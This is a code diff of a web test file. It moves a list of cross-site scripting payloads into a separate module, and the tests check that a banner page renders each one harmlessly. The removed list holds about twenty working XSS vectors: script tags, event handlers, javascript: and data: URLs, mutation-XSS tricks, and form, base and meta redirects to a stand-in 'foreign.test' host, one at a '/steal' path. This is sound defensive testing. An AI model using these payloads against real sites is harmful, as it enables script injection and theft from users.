@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { ATTACKS } from './attacks.ts';
 import { showBanner } from './banner-page.ts';
 import { useStage } from './harness.ts';
 
@@ -52,30 +53,6 @@ describe("the owner's text", () => {
     expect(await banner.locator('.disclaimer-text').textContent()).toMatch(/^By using this website/);
   });
 });
-
-const ATTACKS = [
-  '<script>pwned = 1</script>',
-  '<img src=x onerror="pwned = 1">',
-  '<img/src=x/onerror=pwned=1>',
-  '<svg onload="pwned = 1"><animate onbegin=pwned=1 attributeName=x dur=1s></svg>',
-  '<svg><script href="data:,pwned=1"></script></svg>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<iframe src="javascript:parent.pwned=1"></iframe>',
-  '<object data="javascript:pwned=1"></object><embed src="javascript:pwned=1">',
-  '<a id="hit" href="javascript:pwned=1">here</a>',
-  '<a id="hit" href="JaVa&#9;ScRiPt:pwned=1">here</a>',
-  '<a id="hit" href="&#1;javascript:pwned=1">here</a>',
-  '<a id="hit" href="data:text/html,<script>opener.pwned=1</script>" target="_blank">here</a>',
-  '<a id="hit" href="#" onclick="pwned=1" onfocus=pwned=1 autofocus>here</a>',
-  '<form action="https://foreign.test/steal"><button id="hit" formaction="javascript:pwned=1">here</button></form>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
-  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
-  '<details open ontoggle=pwned=1>x</details><video><source onerror=pwned=1></video>',
-  '<style>body{display:none}</style><link rel=stylesheet href="https://foreign.test/a.css">',
-  '<p style="position:fixed;inset:0;background:url(https://foreign.test/spy)">x</p>',
-  '<base href="https://foreign.test/"><meta http-equiv="refresh" content="0;url=https://foreign.test/">',
-  '<template><img src=x onerror=pwned=1></template><xss onpointerover=pwned=1>x</xss>',
-];
 
 describe('a hostile text', () => {
   test.each(ATTACKS)('%s does nothing', async (attack) => {
